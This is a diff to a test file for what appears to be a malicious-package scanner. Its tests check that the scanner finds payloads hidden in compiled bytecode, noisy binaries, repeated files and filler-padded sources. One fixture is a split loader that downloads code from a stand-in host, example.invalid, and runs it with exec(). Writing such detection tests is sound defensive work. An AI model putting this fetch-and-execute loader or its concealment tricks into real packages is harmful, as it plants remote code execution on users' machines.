@@ -1,6 +1,8 @@
 """The payload in every place of a package and in every kind of file that something runs."""
 
 import json
+import marshal
+import random
 import struct
 
 import pytest
@@ -177,13 +179,46 @@ def test_a_line_of_a_path_file(place, make, examine):
         assert "download_then_execute" in shown or "exec_download" in shown
 
 
+def compiled(source, number=3495):
+    return struct.pack("<H", number) + b"\r\n" + bytes(12) + marshal.dumps(compile(source, "x.py", "exec"))
+
+
 @pytest.mark.parametrize("number", [3495, 3413, 62211, 240, 336, 416, 160])
 @pytest.mark.parametrize("name", ["demo/x.pyc", "demo/__pycache__/x.cpython-311.pyc", "demo/x.pyo", "boot.pyc"])
 def test_compiled_python(name, number, make, examine):
-    import marshal
-
-    body = marshal.dumps(compile(make.code, "x.py", "exec"))
-    data = struct.pack("<H", number) + b"\r\n" + bytes(12) + body
+    data = compiled(make.code, number)
     seen = examine(make.sdist({name: data}))
     counts = [seen.row.values[f"binary_{noun}"] for noun in ("bytecode", "python_names", "hosts", "not_searched")]
     assert counts == [1, 2, 1, 0], seen.say()
+
+
+def test_one_compiled_file_too_many_is_named(make, examine):
+    files = {f"demo/a{at}.pyc": compiled(f"x = {at}") for at in range(501)}
+    examine(make.sdist({**files, "demo/z.pyc": compiled(make.code)})).is_named("binary_bytes")
+
+
+def test_native_code_and_pickles_that_are_cut_are_counted(make, examine):
+    noise = random.Random(1).randbytes(1_500_000)
+    seen = examine(make.sdist({"demo/x.so": b"\x7fELF" + noise + make.code + noise}))
+    assert seen.row.values["binary_cut"] == 1
+    seen = examine(make.sdist({"demo/x.pkl": b"\x80\x04\x95" + noise + make.code + noise}))
+    assert seen.row.values["binary_pickle_cut"] == 1
+
+
+def test_many_of_the_same_hide_none_of_the_counts(make, examine):
+    files = {f"demo/a{at}.py": make.code for at in range(50)}
+    seen = examine(make.sdist({**files, "demo/z.py": make.code + b"#"}))
+    assert seen.row.values["code_rest_category_network"] == 51
+
+
+@pytest.mark.parametrize("role", ["import", "rest"])
+@pytest.mark.parametrize("filler", ["# a line of filler\n", "def f{0}(a):\n    return a + {0}\n", "F{0} = {0}\n"])
+def test_a_loader_in_parts_in_a_long_file(filler, role, make, examine):
+    name = "demo/__init__.py" if role == "import" else "demo/x.py"
+    loader = (
+        "import urllib.request as r\ndef a():\n    return r.urlopen('http://example.invalid/stage')\n"
+        "def b(x):\n    exec(x.read())\ndef c():\n    b(a())\nc()\n"
+    )
+    noise = "".join(filler.format(at) for at in range(1500))
+    seen = examine(make.sdist({name: (noise + loader + noise).encode()}))
+    seen.is_seen("download_then_execute", f"demo-1.0/{name}")
